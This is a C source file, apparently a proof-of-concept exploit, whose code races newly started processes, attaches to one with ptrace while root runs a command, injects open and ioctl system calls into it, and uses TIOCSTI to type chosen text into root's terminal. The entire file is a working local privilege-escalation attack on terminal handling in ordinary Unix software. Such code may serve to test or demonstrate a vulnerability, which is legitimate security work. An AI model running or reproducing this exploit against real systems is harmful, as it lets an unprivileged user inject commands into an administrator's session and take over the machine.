/* What a user would do while root's command has a process with the user's ids: trace it, and have it type into root's
 * terminal (TIOCSTI). Run as the user: tracer TEXT. Tries every process that starts, until killed; says what it traced. */
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/ptrace.h>
#include <sys/syscall.h>
#include <sys/user.h>
#include <sys/wait.h>
#include <unistd.h>

#ifdef __x86_64__
/* Has the stopped process make a system call. */
static long call(pid_t pid, struct user_regs_struct regs, long number, long a, long b, long c) {
    int status;
    regs.rax = number, regs.orig_rax = -1, regs.rdi = a, regs.rsi = b, regs.rdx = c;
    ptrace(PTRACE_POKETEXT, pid, regs.rip, 0x050f);
    ptrace(PTRACE_SETREGS, pid, 0, &regs);
    ptrace(PTRACE_SINGLESTEP, pid, 0, 0);
    waitpid(pid, &status, 0);
    ptrace(PTRACE_GETREGS, pid, 0, &regs);
    return regs.rax;
}

static void type(pid_t pid, const char *text) {
    struct user_regs_struct regs;
    long place, terminal;
    if (ptrace(PTRACE_GETREGS, pid, 0, &regs)) return;
    place = (regs.rsp - 4096) & ~7L;
    ptrace(PTRACE_POKEDATA, pid, place, 0x7974742f7665642fL); /* "/dev/tty" */
    ptrace(PTRACE_POKEDATA, pid, place + 8, 0L);
    terminal = call(pid, regs, SYS_open, place, O_RDWR, 0);
    printf("terminal %ld\n", terminal);
    for (; *text; text++) {
        ptrace(PTRACE_POKEDATA, pid, place, (long)*text);
        printf("typed %ld\n", call(pid, regs, SYS_ioctl, terminal, TIOCSTI, place));
    }
}
#else
static void type(pid_t pid, const char *text) { (void)pid, (void)text; }
#endif

int main(int argc, char **argv) {
    setvbuf(stdout, NULL, _IONBF, 0);
    for (;;) {
        int last = 0, status;
        FILE *file = fopen("/proc/loadavg", "r");
        if (!file || fscanf(file, "%*s %*s %*s %*s %d", &last) != 1) return 1;
        fclose(file);
        for (int round = 0; round < 200; round++)
            for (pid_t pid = last - 3; pid < last + 12; pid++) {
                if (pid == getpid() || ptrace(PTRACE_SEIZE, pid, 0, 0)) continue;
                ptrace(PTRACE_INTERRUPT, pid, 0, 0);
                waitpid(pid, &status, 0);
                printf("traced %d\n", pid);
                if (argc > 1) type(pid, argv[1]);
                kill(pid, SIGKILL);
                return 0;
            }
    }
}
